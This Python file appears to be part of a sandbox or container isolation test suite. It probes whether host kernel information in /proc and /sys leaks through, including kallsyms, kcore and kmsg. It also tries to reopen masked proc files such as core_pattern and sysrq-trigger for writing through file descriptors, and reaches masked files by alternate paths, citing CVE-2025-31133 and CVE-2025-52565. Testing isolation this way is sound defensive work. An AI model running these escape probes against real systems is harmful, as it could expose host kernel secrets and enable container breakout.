"""What /proc and /sys tell about the host's kernel, and ways around covers."""

import os
import re

from attack import add, attempt, main

SECRETS = """
kcore kmsg keys key-users timer_list sched_debug iomem ioports slabinfo pagetypeinfo vmallocinfo kpagecount kpageflags
kallsyms bus/pci/devices driver/rtc fs/ext4 acpi scsi/scsi irq config.gz
""".split()


def told(path):
    """Anything but zeros and empty files; for addresses, one that is not hidden."""
    if os.path.isdir(path):
        return ", ".join(sorted(os.listdir(path))[:3])
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    text = os.read(fd, 4096)
    if path.endswith(("kallsyms", "iomem", "ioports")):
        # Zeros stand for what is hidden.
        addresses = re.findall(rb"^ *([0-9a-f]+)[ -]([0-9a-f]*)", text, re.M)
        return any(int(first, 16) or int(last or b"0", 16) for first, last in addresses) and text[:60]
    return text[:60]


for name in SECRETS:
    add(f"read /proc/{name}", told, f"/proc/{name}")


@attempt("open a covered file again for writing")
def reopened():
    """CVE-2025-31133 ended here: a cover that is no cover, reached by a descriptor instead of its path."""
    last = None
    for name in ("kcore", "keys", "timer_list", "sysrq-trigger", "sys/kernel/core_pattern"):
        try:
            fd = os.open(f"/proc/{name}", os.O_PATH)
            os.close(os.open(f"/proc/self/fd/{fd}", os.O_RDWR))
            return name
        except OSError as error:
            last = error
    raise last


@attempt("go around the covers by another path")
def around():
    last = None
    for prefix in ("/proc/self/root/proc", "/proc/1/root/proc", "/proc/self/task/../..", "/proc/self/cwd/../../../../proc", "/proc/thread-self/root/proc"):
        for name in ("kmsg", "keys", "timer_list", "kallsyms"):
            try:
                if found := told(f"{prefix}/{name}"):
                    return f"{prefix}/{name}: {found}"
            except OSError as error:
                last = error
    if last:
        raise last
    return None


@attempt("read the host's log")
def console():
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    return os.read(fd, 8192)[:40]


@attempt("write to the host's console")
def host_console():
    """CVE-2025-52565: /dev/console is to be a terminal of the sandbox, or nothing."""
    fd = os.open("/dev/console", os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    device = os.fstat(fd).st_rdev
    return (os.major(device), os.minor(device)) == (5, 1)


main()
